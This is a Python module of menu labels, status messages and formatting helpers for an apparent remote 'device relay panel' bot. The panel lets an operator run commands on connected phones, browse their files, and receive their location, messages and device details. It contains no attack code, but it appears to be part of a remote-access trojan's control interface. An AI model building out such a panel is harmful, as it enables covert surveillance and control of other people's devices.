"""
面向操作员的全部文案（菜单标签、提示语、状态语）。
"""

from __future__ import annotations

from typing import Mapping

# 顶层菜单（空闲状态下按文本精确匹配）
LABEL_DEVICES = "Connected devices"
LABEL_EXECUTE = "Execute command"
LABEL_BROWSE = "Browse files"
CMD_START = "/start"
CMD_HELP = "/help"

MENU_LABELS = (LABEL_DEVICES, LABEL_EXECUTE, LABEL_BROWSE)
MENU_HINT = " | ".join(MENU_LABELS)

# 状态语
STATUS_PROCESSING = "°• Your request is on process..."
STATUS_NOT_FOUND = "°• Device not found!"
STATUS_PERMISSION_DENIED = "°• Permission denied"
STATUS_NO_DEVICES = "°• No connecting devices available"
TOAST_UNAUTHORIZED = "Unauthorized!"
TOAST_DISCONNECTED = "Device disconnected!"

WELCOME = (
    "°• Welcome to the device relay panel\n\n"
    "• Once the agent app is running on a device, wait for its connection message\n\n"
    "• The connection message means the device is ready to receive commands\n\n"
    f"• Use \"{LABEL_EXECUTE}\", pick a device, then pick a command\n\n"
    f"• Use \"{LABEL_BROWSE}\" to walk a device's storage\n\n"
    f"• If you get stuck anywhere, send {CMD_START}"
)

PICK_DEVICE_EXECUTE = "°• Select device to execute command"
PICK_DEVICE_BROWSE = "°• Select device to browse files"
DEVICE_LIST_HEADER = "°• List of connected devices :"


def describe_device(metadata: Mapping[str, str]) -> str:
    return (
        f"• Device model : {metadata.get('model', 'unknown')}\n"
        f"• Battery : {metadata.get('battery', 'unknown')}\n"
        f"• OS version : {metadata.get('version', 'unknown')}\n"
        f"• Screen brightness : {metadata.get('brightness', 'unknown')}\n"
        f"• Provider : {metadata.get('provider', 'unknown')}"
    )


def device_connected(metadata: Mapping[str, str]) -> str:
    return "°• New device connected\n\n" + describe_device(metadata)


def device_disconnected(metadata: Mapping[str, str]) -> str:
    return "°• Device disconnected\n\n" + describe_device(metadata)


def command_menu_title(label: str) -> str:
    return f"°• Select command for device : {label}"


def keys_panel_title(label: str) -> str:
    return f"°• Press buttons for device : {label}"


def listing_title(label: str, path: str) -> str:
    return f"°• Files of {label} : {path}"


def message_from(label: str) -> str:
    return f"°• Message from {label} device"


def location_from(label: str) -> str:
    return f"°• Location from {label} device"
